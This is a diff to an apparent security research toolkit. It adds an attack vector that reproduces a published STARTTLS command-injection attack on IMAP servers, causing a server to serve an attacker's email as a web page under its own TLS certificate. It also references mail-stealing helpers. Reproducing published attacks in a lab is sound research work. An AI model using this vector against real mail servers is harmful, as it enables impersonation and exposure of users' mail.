@@ -8,8 +8,8 @@ from typing import ClassVar
 
 from labkit.attacks import speech
 from labkit.attacks.account import ADDRESS, NAME, PASSWORD
-from labkit.attacks.actions import Replace
-from labkit.attacks.vector import Answered, Line, Vector
+from labkit.attacks.actions import Begin, Replace
+from labkit.attacks.vector import Answered, Line, Opening, Vector
 
 MARK = "X-MALLORY"
 """A capability that no server has: whoever believes in it has believed the attacker."""
@@ -83,6 +83,26 @@ def _steal_upload(line: Line, login: int) -> bytes:
 
 
 _STEAL = {"SMTP": _steal_mail, "IMAP": _steal_upload}
+
+
+class HostHTTPS(Vector):
+    """Brings a browser that means port 443 to the mail server, starts TLS for it there, and lets the server read the
+    attacker's last mail to it: her page, under the server's own certificate.
+
+    The answers of IMAP stand before the page, so only a browser that takes an answer without a status line (HTTP/0.9)
+    shows it; ``curl --http0.9`` does.
+    """
+
+    id = "B4"
+    protocols = ("IMAP",)
+    source = "Poddebniak et al., USENIX Security 2021, §5"
+    facade = 443
+    server: ClassVar = _KEEPS_BUFFER
+    marks = (MARK,)  # as it stands in a mail that lies in her inbox
+
+    def on_open(self, opening: Opening) -> Answered:
+        commands = ("STARTTLS", f"LOGIN {NAME} {PASSWORD}", "EXAMINE INBOX", "FETCH * BODY[TEXT]")
+        return Begin(b"".join(speech.command("IMAP", text) for text in commands))
 
 
 class WeakerLogin(ResponseInjection):
